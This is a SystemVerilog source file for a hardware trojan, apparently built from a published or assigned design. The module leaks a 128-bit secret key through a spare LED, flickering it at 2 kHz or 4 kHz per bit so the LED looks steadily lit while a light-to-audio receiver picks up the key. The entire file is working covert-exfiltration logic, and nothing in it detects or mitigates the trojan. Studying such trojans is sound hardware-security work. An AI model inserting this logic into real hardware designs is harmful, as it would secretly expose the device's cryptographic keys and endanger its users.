// optical_trojan: leaks the key through a spare LED as two audio tones.
//
// While a key transmission runs, the LED is switched as a square wave whose
// frequency encodes the current key bit: F0_HZ for a 0, F1_HZ for a 1. Both
// rates are far above what the eye resolves, so the LED looks steadily lit,
// but a light-to-audio receiver turns them into two clearly different tones.
// Outside a transmission the LED is off.
//
// Interface: `trigger` starts one pass over the 128-bit `key`; `led` drives
// the LED pin. Timing: the square wave toggles every CLK_HZ/(2*F) cycles,
// restarting its phase at each new bit; each bit lasts BIT_CYCLES cycles.
//
// From the document: half a second per bit, 2 kHz for a 0 and 4 kHz for a 1,
// on a spare LED of the 50 MHz board. The LED level outside a transmission
// and the phase restart per bit are this design's choices.
module optical_trojan #(
  parameter int unsigned WIDTH      = 128,
  parameter int unsigned CLK_HZ     = 50_000_000,
  parameter int unsigned F0_HZ      = 2_000,
  parameter int unsigned F1_HZ      = 4_000,
  parameter int unsigned BIT_CYCLES = CLK_HZ / 2
) (
  input  logic             clk,
  input  logic             rst,
  input  logic             trigger,
  input  logic [WIDTH-1:0] key,
  output logic             led,
  output logic             active
);
  localparam int unsigned HALF0 = CLK_HZ / (2 * F0_HZ);
  localparam int unsigned HALF1 = CLK_HZ / (2 * F1_HZ);
  localparam int unsigned CW    = $clog2(HALF0 + 1);

  logic                     bit_val, bit_q, active_q;
  logic [$clog2(WIDTH)-1:0] bit_index, index_q;
  logic [CW-1:0]            cnt;
  logic                     wave;

  trojan_key_sequencer #(.WIDTH(WIDTH), .BIT_CYCLES(BIT_CYCLES)) u_seq (
    .clk, .rst, .trigger, .key, .active, .bit_val, .bit_index
  );

  always_ff @(posedge clk) begin
    if (rst) begin
      cnt      <= '0;
      wave     <= 1'b0;
      bit_q    <= 1'b0;
      index_q  <= '0;
      active_q <= 1'b0;
    end else begin
      bit_q    <= bit_val;
      index_q  <= bit_index;
      active_q <= active;
      if (!active || (active && !active_q) || bit_index != index_q) begin
        // new transmission or new bit: restart the wave
        cnt  <= '0;
        wave <= active;
      end else if (cnt >= CW'((bit_q ? HALF1 : HALF0) - 1)) begin
        cnt  <= '0;
        wave <= !wave;
      end else begin
        cnt  <= cnt + 1'b1;
      end
    end
  end

  assign led = active_q && wave;

endmodule
